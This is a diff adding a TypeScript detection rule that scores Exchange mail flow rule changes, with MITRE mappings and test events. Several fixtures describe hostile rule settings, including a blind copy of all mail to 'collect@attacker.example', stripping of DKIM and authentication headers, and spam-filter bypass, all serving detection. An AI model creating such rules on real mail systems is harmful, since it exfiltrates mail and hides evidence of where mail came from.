@@ -1,0 +1,189 @@
+import { defineDetection } from '../core/detection.js';
+import { headerKind } from '../core/header-names.js';
+import { PORTAL } from '../core/portal.js';
+import { bySeverity, oneLess, type Severity } from '../core/severity.js';
+import { isActing, ruleFlags, type RuleFlag } from '../core/transport-rule-flags.js';
+import { parameter } from './lib/fields.js';
+import {
+  changesSomething,
+  mailFlowChange,
+  mailFlowCmdlets,
+  mailFlowMatch,
+  ownDomainsIn,
+  type MailFlowChange,
+  type MailFlowJudgement,
+} from './lib/mail-flow.js';
+import { recordedRule } from './lib/recorded-rule.js';
+import { exchange, HELPER_ACTOR, knownHelper, MICROSOFT } from './lib/sample-events.js';
+
+/** Worse than a rule that stands there already: somebody is taking away the proof of where mail comes from, now. */
+function severityOf(flag: RuleFlag, removeHeader: string | undefined): Severity {
+  const strips = flag.what === 'strips-headers' && headerKind(removeHeader ?? '') === 'trace';
+  return strips ? 'critical' : flag.severity;
+}
+
+/** How bad it is when a person does it: by what the rule does to mail, as far as the record tells. */
+function judge({ event, verb, subject }: MailFlowChange): MailFlowJudgement {
+  if (verb === 'Disable') return { severity: 'low', confidence: 'medium' };
+  if (verb === 'Remove' || verb === 'Enable') return { severity: 'medium', confidence: 'medium' };
+  if (verb === 'Set' && !changesSomething(event)) return { severity: 'low', confidence: 'high' };
+  const rule = recordedRule(event, subject.name);
+  const flags = ruleFlags(rule, ownDomainsIn(event)).map((flag) => ({
+    ...flag,
+    severity: severityOf(flag, rule.removeHeader),
+  }));
+  const worst = flags.toSorted((a, b) => bySeverity(a.severity, b.severity))[0];
+  if (worst === undefined) return { severity: 'low', confidence: 'medium' };
+  const acts = isActing(rule);
+  return {
+    severity: acts ? worst.severity : oneLess(worst.severity),
+    // The condition that makes it harmless may be in the rule already, or the recipient in a domain of ours that is not known here.
+    confidence:
+      worst.confidence === 'high' && verb === 'Set' && parameter(event, 'RemoveHeader') === undefined
+        ? 'medium'
+        : worst.confidence,
+    why: acts ? worst.words : `${worst.words}, once it is switched on`,
+  };
+}
+
+const strip = (header: string, more: Readonly<Record<string, string>> = {}) => ({
+  Name: 'Header clean-up 01',
+  RemoveHeader: header,
+  Enabled: 'True',
+  ...more,
+});
+
+export const detection = defineDetection({
+  id: 'transport-rule-changed',
+  description:
+    'A mail flow rule is created, changed, enabled, disabled or removed; one that strips headers is told apart.',
+  operations: mailFlowCmdlets('TransportRule'),
+  techniques: [
+    { id: 'T1564.008', name: 'Email Hiding Rules' },
+    { id: 'T1114.003', name: 'Email Forwarding Rule' },
+    { id: 'T1070.008', name: 'Clear Mailbox Data' },
+  ],
+  benign: [
+    'Rules for disclaimers, external-mail warnings, encryption or journaling; they count as low.',
+    'A gateway’s own headers (X-Proofpoint, X-Barracuda …) are stripped before mail leaves; that counts as low.',
+    'Phishing simulations are let past the filter, by the addresses they come from.',
+    'A colleague’s mail is redirected while they are away.',
+  ],
+  nextSteps: [
+    {
+      text: 'Ask the person named whether it was them; an app never answers: see what it may do.',
+      url: PORTAL.enterpriseApps,
+    },
+    { text: 'Look at the rule, and at those made in the same hour.', url: PORTAL.transportRules },
+  ],
+  match: (event, context) => {
+    const change = mailFlowChange(event, context, 'TransportRule');
+    return change === undefined ? undefined : mailFlowMatch(change, context, judge(change), 'rules-created');
+  },
+  examples: [
+    {
+      name: 'an app strips what tells the true sender',
+      event: exchange(
+        'New-TransportRule',
+        'Header clean-up 01',
+        strip('X-MS-Exchange-ExternalOriginalInternetSender'),
+        {
+          actor: HELPER_ACTOR,
+        },
+      ),
+      known: { apps: [knownHelper()] },
+      expect: {
+        severity: 'critical',
+        confidence: 'high',
+        subjectId: 'Header clean-up 01',
+        title:
+          'The mail flow rule Header clean-up 01 was made by the app Office Sync Helper: it removes the header X-MS-Exchange-ExternalOriginalInternetSender',
+      },
+    },
+    {
+      name: 'a person strips the results of authentication',
+      event: exchange('New-TransportRule', 'r', strip('Authentication-Results')),
+      expect: { severity: 'critical', confidence: 'high' },
+    },
+    {
+      name: 'an existing rule is made to strip',
+      event: exchange('Set-TransportRule', 'Disclaimer', { Identity: 'Disclaimer', RemoveHeader: 'DKIM-Signature' }),
+      expect: { severity: 'critical', confidence: 'high' },
+    },
+    {
+      name: 'a rule that strips, to be tried out first',
+      event: exchange('New-TransportRule', 'r', strip('Received', { Mode: 'Audit' })),
+      expect: { severity: 'high' },
+    },
+    {
+      name: 'a header of the company’s own',
+      event: exchange('New-TransportRule', 'r', strip('X-Contoso-Classification')),
+      expect: { severity: 'high', confidence: 'medium' },
+    },
+    {
+      name: 'a gateway’s own header',
+      event: exchange('New-TransportRule', 'r', strip('X-Proofpoint-Spam-Details')),
+      expect: { severity: 'low' },
+    },
+    {
+      name: 'past the spam filter for whoever names a domain as the sender',
+      event: exchange('New-TransportRule', 'Partners', { SenderDomainIs: 'partner.example', SetSCL: '-1' }),
+      expect: { severity: 'high', confidence: 'high' },
+    },
+    {
+      name: 'a phishing simulation, by its addresses',
+      event: exchange('New-TransportRule', 'Simulation', { SenderIpRanges: '198.51.100.7', SetSCL: '-1' }),
+      expect: { severity: 'low' },
+    },
+    {
+      name: 'blind copies to the outside',
+      event: exchange('Set-TransportRule', 'Copy', { Identity: 'Copy', BlindCopyTo: 'collect@attacker.example' }),
+      expect: { severity: 'high', confidence: 'medium' },
+    },
+    {
+      name: 'journaling to a mailbox of the own domain',
+      event: exchange('New-TransportRule', 'Journal', { BlindCopyTo: 'journal@contoso.com' }),
+      expect: { severity: 'low' },
+    },
+    {
+      name: 'a disclaimer',
+      event: exchange('New-TransportRule', 'Disclaimer', { ApplyHtmlDisclaimerText: '<p>Contoso Ltd</p>' }),
+      expect: { severity: 'low' },
+    },
+    {
+      name: 'a disclaimer made by an app',
+      event: exchange('New-TransportRule', 'Disclaimer', { ApplyHtmlDisclaimerText: 'x' }, { actor: HELPER_ACTOR }),
+      expect: { severity: 'critical' },
+    },
+    {
+      name: 'switched on',
+      event: exchange('Enable-TransportRule', 'r', { Identity: 'r' }),
+      expect: { severity: 'medium' },
+    },
+    {
+      name: 'switched off',
+      event: exchange('Disable-TransportRule', 'Warn of external mail', { Identity: 'Warn of external mail' }),
+      expect: { severity: 'low' },
+    },
+    {
+      name: 'removed',
+      event: exchange('Remove-TransportRule', 'Warn of external mail', { Identity: 'Warn of external mail' }),
+      expect: { severity: 'medium' },
+    },
+    {
+      name: 'Exchange’s own encryption rule',
+      event: exchange(
+        'New-TransportRule',
+        'Encrypt',
+        { ApplyRightsProtectionTemplate: 'Encrypt' },
+        { actor: MICROSOFT },
+      ),
+      expect: 'silent',
+    },
+    {
+      name: 'refused',
+      event: exchange('New-TransportRule', 'r', strip('Received'), { succeeded: false }),
+      expect: 'silent',
+    },
+  ],
+});
